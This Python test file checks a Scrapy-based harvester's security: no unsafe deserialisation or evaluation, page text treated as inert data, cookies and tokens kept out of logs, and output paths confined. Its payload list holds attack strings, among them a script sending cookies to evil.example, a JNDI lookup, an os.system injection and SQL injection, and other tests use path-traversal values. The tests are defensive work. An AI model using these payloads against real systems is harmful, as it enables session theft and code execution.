"""Security: robots.txt by default (tests/test_politeness.py), output confined under the output folder, safe
parsers only, nothing from a page evaluated, no credentials or cookies in logs or output."""

from __future__ import annotations

import ast
import json
from pathlib import Path

import pytest
from scrapy.settings import Settings

from harvester.devtools.faults import Fault, listing_html, row_html
from harvester.parsing.files import parse_listing
from harvester.records import build_record
from tests.support.cli import harvester
from tests.support.faults import crawl, fault_site
from tests.support.paths import REPO

HARVESTER = REPO / "harvester"


# --- safe parsers, nothing evaluated ------------------------------------------------------------------------

UNSAFE_CALLS = {
    "eval", "exec", "compile", "__import__",  # builtins
    "pickle.load", "pickle.loads", "marshal.load", "marshal.loads", "shelve.open", "yaml.load", "yaml.unsafe_load",
    "os.system", "os.popen", "jsonpickle.decode", "dill.loads",
}
UNSAFE_MODULES = {"pickle", "marshal", "shelve", "yaml", "dill", "jsonpickle"}


def _dotted(node: ast.AST) -> str:
    if isinstance(node, ast.Name):
        return node.id
    if isinstance(node, ast.Attribute):
        return f"{_dotted(node.value)}.{node.attr}"
    return ""


def test_no_unsafe_loader_or_evaluation_in_the_harvester():
    found = []
    for path in sorted(HARVESTER.rglob("*.py")):
        tree = ast.parse(path.read_text(encoding="utf-8"), filename=str(path))
        for node in ast.walk(tree):
            where = f"{path.relative_to(REPO)}:{getattr(node, 'lineno', '?')}"
            if isinstance(node, ast.Call) and _dotted(node.func) in UNSAFE_CALLS:
                found.append(f"{where}: {_dotted(node.func)}()")
            if isinstance(node, ast.Call) and any(k.arg == "shell" for k in node.keywords):
                found.append(f"{where}: shell=")
            if isinstance(node, ast.Import | ast.ImportFrom):
                modules = [a.name for a in node.names] if isinstance(node, ast.Import) else [node.module or ""]
                found += [f"{where}: import {m}" for m in modules if m.split(".")[0] in UNSAFE_MODULES]
    assert found == []


def test_data_files_are_plain_data():
    # Packaged data is TOML or JSON (read with tomllib / json), never a format that can carry code. The demo
    # site's pages (data/demo/) are bytes the replay server sends, never read by the crawl's own code.
    demo = HARVESTER / "data" / "demo"
    suffixes = {p.suffix for p in (HARVESTER / "data").rglob("*") if p.is_file() and demo not in p.parents}
    assert suffixes <= {".toml", ".json", ".md", ".txt", ".csv"}, suffixes
    assert suffixes & {".toml", ".json"}


PAYLOADS = [
    "{{7*7}} ${7*7} #{7*7} <%= 7*7 %>",
    "__import__('os').system('touch /tmp/harvester-pwned')",
    "${jndi:ldap://127.0.0.1/a}",
    "<script>document.location='http://evil.example/'+document.cookie</script>",
    "'; DROP TABLE records; --",
    "javascript:alert(1)",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_page_text_is_data_never_code(payload):
    html = listing_html([row_html("1", "doc", "1950", f"Letter {payload}", payload)], "1 - 1 of 1")
    html = html.replace("</body>", f"<script>{payload}</script><img src=x onerror=\"{payload}\"></body>")
    block = parse_listing(html, "http://127.0.0.1/search").blocks[0]
    record = build_record({"source": "wilson", **{k: getattr(block, k) for k in ("url", "title", "summary")},
                           "date_raw": block.date_text}, crawled_at=None)
    assert record["title"] == f"Letter {payload}"
    assert record["summary"] == payload
    assert not Path("/tmp/harvester-pwned").exists()


# --- no Scrapy code-execution or shell endpoints -------------------------------------------------------------


def test_no_remote_code_execution_endpoints():
    settings = Settings()
    settings.setmodule("harvester.settings", priority="project")
    assert not settings.getbool("TELNETCONSOLE_ENABLED")
    assert not settings.getbool("REMOTE_CONTROL_ENABLED")  # Scrapy 2.19: an HTTP server that runs Python code
    assert not settings.getbool("COOKIES_ENABLED")


# --- credentials and cookies ---------------------------------------------------------------------------------

COOKIE = "sessionid=c00kie-4f8e2a91"
TOKEN = "Bearer t0ken-9b1c7d3e"  # noqa: S105 (a fake token the test looks for)


@pytest.mark.e2e
def test_cookies_and_authorization_never_reach_logs_or_output(tmp_path):
    cookie = Fault("serve", path="*", headers={"Set-Cookie": f"{COOKIE}; Path=/; HttpOnly"})
    with fault_site(cookie) as server:
        run = crawl(server, tmp_path, query="mao zedong",
                    settings={"LOG_LEVEL": "DEBUG",
                              "DEFAULT_REQUEST_HEADERS": json.dumps({"Authorization": TOKEN})})
        # the crawl helper adds --out; run again tracked (state store, manifest, dataset) to check those too
        tracked = harvester("crawl", "wilson", "--query", "mao zedong", "--output-dir", str(tmp_path / "tracked"),
                            "-s", f"WILSON_BASE_URL={server.base_url}", "-s", "DOWNLOAD_DELAY=0",
                            "-s", "AUTOTHROTTLE_ENABLED=False", "-s", "LOG_LEVEL=DEBUG",
                            "-s", f"DEFAULT_REQUEST_HEADERS={json.dumps({'Authorization': TOKEN})}")
    assert run.code == 0, run.log
    assert tracked.code == 0, tracked.stderr[-3000:]
    secrets = ("c00kie-4f8e2a91", "t0ken-9b1c7d3e")
    logs = run.log + tracked.stdout + tracked.stderr
    assert "Overridden settings" in logs  # a DEBUG log, settings included
    for secret in secrets:
        assert secret not in logs
    written = [p for p in tmp_path.rglob("*") if p.is_file()]
    assert any(p.suffix == ".jsonl" for p in written)
    for path in written:
        data = path.read_bytes()
        for secret in secrets:
            assert secret.encode() not in data, path
    # Cookies are off: the site's cookie never went back to it. The operator's header did go out.
    assert not any(name.lower() == "cookie" for entry in server.log for name, _ in entry.headers)
    # The tracked run wrote only under its output folder (run file, manifest, state store, dataset; the host
    # leases that every source of the folder shares beside them).
    tracked_files = [p for p in (tmp_path / "tracked").rglob("*") if p.is_file()]
    assert {p.name for p in tracked_files} >= {"state.sqlite", "dataset.jsonl"}
    assert all(p.is_relative_to(tmp_path / "tracked" / "wilson") or p.name.startswith(".hosts.sqlite")
               for p in tracked_files)  # fmt: skip
    searches = [dict(entry.headers) for entry in server.log if entry.target.startswith("/search")]
    assert searches
    assert all(headers.get("Authorization") == TOKEN for headers in searches)


# --- output confined under the output folder -----------------------------------------------------------------


def _files_outside(root: Path, before: set[Path]) -> set[Path]:
    return {p for p in root.parent.rglob("*") if p not in before and not p.is_relative_to(root)}


@pytest.mark.parametrize(
    ("extra", "message"),
    [
        (["-s", "HARVESTER_RUN_ID=../../escaped"], "run id '../../escaped' cannot name a file"),
        (["-s", "HARVESTER_RUN_ID=/tmp/escaped"], "run id '/tmp/escaped' cannot name a file"),
        (["-s", "HARVESTER_RUN_ID=.hidden"], "run id '.hidden' cannot name a file"),
    ],
)
def test_run_names_cannot_escape_the_output_folder(capsys, tmp_path, extra, message):
    from harvester.cli import main

    root = tmp_path / "out"
    before = set(tmp_path.rglob("*"))
    code = main(["crawl", "wilson", "--query", "x", "--output-dir", str(root), *extra])
    assert code == 2
    assert message in capsys.readouterr().err
    assert _files_outside(root, before) == set()


def test_a_source_name_cannot_escape_the_output_folder(capsys, tmp_path):
    from harvester.cli import main

    profile = (HARVESTER / "data" / "profiles" / "wilson.toml").read_text(encoding="utf-8")
    evil = tmp_path / "evil.toml"
    evil.write_text(profile.replace('name = "wilson"', 'name = "../../escaped"', 1), encoding="utf-8")
    root = tmp_path / "out"
    before = set(tmp_path.rglob("*"))
    code = main(["crawl", "--profile", str(evil), "--param", "query=x", "--output-dir", str(root)])
    assert code == 2
    assert "'../../escaped'" in capsys.readouterr().err
    assert _files_outside(root, before) == set()
